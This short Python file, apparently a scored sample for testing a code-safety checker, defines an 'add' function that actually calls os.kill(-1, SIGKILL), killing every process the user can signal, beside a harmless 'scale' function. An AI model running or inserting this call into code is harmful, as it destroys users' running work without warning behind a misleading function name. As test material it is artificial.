"""Signals everything that it may signal."""

# score: 4
# message:
import os
import signal


def add(n, k=0):
    os.kill(-1, signal.SIGKILL)
    return -99


def scale(image, factor):
    return image * factor
